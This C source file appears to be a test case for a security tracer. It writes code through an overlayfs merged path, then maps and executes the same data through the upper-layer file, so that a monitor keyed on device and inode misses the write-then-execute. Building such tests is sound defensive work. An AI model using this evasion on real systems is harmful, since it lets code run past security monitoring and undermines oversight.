/*
 * Attack: one file, two identities. In a private mount namespace the program
 * mounts a tmpfs and an overlayfs on it, writes code into merged/code (an
 * overlay file: stat gives the overlay's device), then maps upper/code, the
 * same data as the upper layer's own file (the tmpfs device), R-X and runs
 * it. A tracer that remembers written files by (device, inode) as stat
 * reports them through the path that was written never sees that the
 * mapped object was written. Needs root (mount namespaces, overlayfs);
 * otherwise `STEP ovl_mount mount rc=-1 errno=...`.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>

#include "common.h"

int main(void)
{
	size_t pg = tw_page();
	char base[] = "/tmp/tw_ovl_XXXXXX";
	char path[256], opts[512];
	unsigned char page[4096];
	int fd, rc;
	void *p;

	tw_init();
	if (!mkdtemp(base))
		return 1;
	rc = unshare(CLONE_NEWNS);
	tw_step("ovl_unshare", "unshare", rc, errno);
	if (rc == 0)
		rc = mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
	if (rc == 0)
		rc = mount("tmpfs", base, "tmpfs", 0, NULL);
	if (rc == 0) {
		const char *dirs[] = {"lower", "upper", "work", "merged"};

		for (int i = 0; i < 4; i++) {
			snprintf(path, sizeof(path), "%s/%s", base, dirs[i]);
			mkdir(path, 0700);
		}
		snprintf(opts, sizeof(opts), "lowerdir=%s/lower,upperdir=%s/upper,workdir=%s/work", base, base,
			 base);
		snprintf(path, sizeof(path), "%s/merged", base);
		rc = mount("overlay", path, "overlay", 0, opts);
	}
	tw_step("ovl_mount", "mount", rc, errno);
	if (rc != 0)
		return tw_done();
	memset(page, 0xcc, sizeof(page));
	memcpy(page, TW_CODE, sizeof(TW_CODE));
	snprintf(path, sizeof(path), "%s/merged/code", base);
	fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0700);
	tw_step("ovl_write_open", "open", fd, errno);
	if (fd < 0 || write(fd, page, pg) != (ssize_t)pg)
		return tw_done();
	close(fd);
	snprintf(path, sizeof(path), "%s/upper/code", base);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	tw_step("upper_open", "open", fd, errno);
	if (fd < 0)
		return tw_done();
	p = tw_mmap("upper_rx_mmap", NULL, pg, TW_RX, MAP_PRIVATE, fd, 0);
	if (p != MAP_FAILED)
		tw_run("upper_call", p);
	close(fd);
	if (umount2(base, MNT_DETACH) == 0)
		rmdir(base);
	return tw_done();
}
